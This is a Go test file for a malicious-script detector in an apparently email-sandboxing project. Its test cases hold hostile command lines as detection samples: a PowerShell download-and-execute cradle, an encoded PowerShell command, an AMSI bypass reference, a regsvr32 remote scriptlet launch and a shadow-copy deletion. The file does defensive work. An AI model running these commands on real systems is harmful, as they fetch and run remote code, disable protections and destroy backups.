package script

import (
	"bytes"
	"context"
	"testing"

	"github.com/airlockmail/airlock/sandboxd/analyzer"
	"github.com/airlockmail/airlock/sandboxd/analyzer/internal/rules"
	"github.com/airlockmail/airlock/sandboxd/analyzer/internal/testkit"
)

func FuzzScript(f *testing.F) {
	testkit.Seeds(f, New())
	f.Fuzz(func(t *testing.T, data []byte) { testkit.Check(t, New(), data) })
}

func TestScanRules(t *testing.T) {
	tests := []struct {
		name, text string
		want       string
	}{
		{"cradle", `IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.1/a')`, "download-execute"},
		{"encoded", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAnACkA", "encoded-command"},
		{"encoded inner", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAnACkA", "download-execute"},
		{"amsi", `[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')`, "amsi-bypass"},
		{"regsvr32", `regsvr32 /s /n /u /i:http://203.0.113.1/a.sct scrobj.dll`, "lolbin"},
		{"shadow", `vssadmin delete shadows /all /quiet`, "shadow-copy-delete"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			fs := &rules.Findings{Analyzer: "script"}
			Scan(context.Background(), tc.text, fs)
			if !fs.Has(tc.want) {
				t.Errorf("missing %s in %+v", tc.want, fs.List())
			}
		})
	}
}

// A script twice the scan bound is decided: the scan looks at a bounded
// prefix (sandboxd accepts files up to 64 MiB; the cost is the same).
func TestHugeScript(t *testing.T) {
	data := bytes.Repeat([]byte("var a = \"x\" + \"y\"; // padding padding padding\n"), (2*maxScan)/48)
	data = append([]byte("new ActiveXObject(\"WScript.Shell\").Run(\"powershell -enc AAAA\");\n"), data...)
	r, err := New().Analyze(context.Background(), &analyzer.File{Data: data, Ext: ".js"})
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Findings) == 0 {
		t.Fatal("no findings for the WScript.Shell prefix")
	}
}

func TestSmugglingPayloadKind(t *testing.T) {
	tests := []struct {
		b    []byte
		want string
	}{
		{[]byte("MZ\x90\x00"), "a Windows executable"},
		{[]byte("PK\x03\x04...."), "a zip archive"},
		{[]byte("just text"), ""},
	}
	for _, tc := range tests {
		if got := payloadKind(tc.b); got != tc.want {
			t.Errorf("payloadKind(%q) = %q, want %q", tc.b, got, tc.want)
		}
	}
}
